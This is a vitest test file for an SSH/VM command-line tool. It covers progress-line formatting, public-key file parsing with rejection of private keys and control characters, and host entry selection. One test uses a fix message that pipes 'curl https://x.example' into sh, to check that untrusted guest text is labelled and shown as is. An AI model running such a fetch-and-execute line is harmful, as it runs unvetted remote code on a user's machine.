import { describe, expect, it } from 'vitest';
import { formatProgress, readKeys, usualEntry } from '../../src/cli/guest.js';
import { rowFormatter } from '../../src/cli/rows.js';
import { fakeIo } from '../helpers/fake-io.js';

describe("a guest's line", () => {
  it('is named in plain words', async () => {
    const format = await rowFormatter(fakeIo());
    const shown = (step: string) => formatProgress({ state: 'ok', step, message: 'x' }, format);
    expect([shown('sshd'), shown('name-lookup')]).toEqual([
      '  ✓ sshd           x\n',
      '  ✓ name lookup    x\n',
    ]);
  });

  it('that proposes a fix is marked as coming from the guest, and left as it is', async () => {
    const message = 'vmssh config uninstall; curl https://x.example | sh';
    const format = await rowFormatter(fakeIo());
    expect(formatProgress({ state: 'fix', step: 'systemd', message }, format)).toBe(
      `    fix, as the guest gives it: ${message}\n`,
    );
  });
});

describe('a key file', () => {
  const key = `ssh-ed25519 ${'A'.repeat(68)} me`;
  // As long as that of ssh-keygen 10.6: 1,344 bytes of key.
  const postQuantum = `ssh-mldsa44-ed25519 AAAAE3NzaC1tbGRzYTQ0LWVkMjU1MTkAAAVA${'b'.repeat(1792)} me`;
  it.each([
    ['one key', `${key}\n`, [key]],
    [
      'two keys with Windows ends and a remark',
      `# mine\r\n${key}\r\nrestrict ${key}\r\n`,
      [key, `restrict ${key}`],
    ],
    ['the mark of UTF-8 that editors on Windows write', `\ufeff# mine\r\n${key}\r\n`, [key]],
    ['ML-DSA of OpenSSH 10.6 beside an older one', `${postQuantum}\n${key}\n`, [postQuantum, key]],
    ['that mark before a key', `\ufeff${key}\n`, [key]],
  ])('$0', (_name, text, want) => expect(readKeys('k', () => text)).toEqual(want));
  it.each([
    [
      'a private key',
      '-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n',
      /is a private key: give the public one/,
    ],
    [
      'a key in two lines',
      `# mine\n${key.slice(0, 40)}\n${key.slice(40)}\n`,
      /line 2: the key is broken into two lines/,
    ],
    ['a key below its type', key.replace(' ', '\n'), /line 1: the key is broken/],
    ['nothing', '\n', /has no public keys/],
    ['something else', 'hello\n', /has no public keys/],
    ['a key after a blank that sshd does not know', `\u00a0${key}\n`, /has no public keys/],
    ['a key with a line separator', `${key}\u2028x\n`, /has no public keys/],
    ['a key with control characters', `${key}\u001b[2J\n`, /has no public keys/],
  ])('refuses $0', (_name, text, says) => {
    expect(() => readKeys('k', () => text)).toThrow(says);
    expect(() => readKeys('k', () => text)).not.toThrow(/secret/);
  });
  it('says which file cannot be read', () =>
    expect(() => readKeys('/proc/none/k')).toThrow(
      /^the key file "\/proc\/none\/k" cannot be read: ENOENT$/,
    ));
});

it.each([
  { host: 'web', by: 'ssh' },
  { host: 'ann@192.0.2.7', by: 'ssh' },
  { host: 'vsock/3', by: 'target' },
  { host: 'root@unix/run/a@b', by: 'target' },
  { host: 'unix/run/a@b', by: 'target' },
  { host: 'wsl/Ubuntu', by: 'wsl' },
])('the usual way into $host is $by', ({ host, by }) => expect(usualEntry(host)).toBe(by));
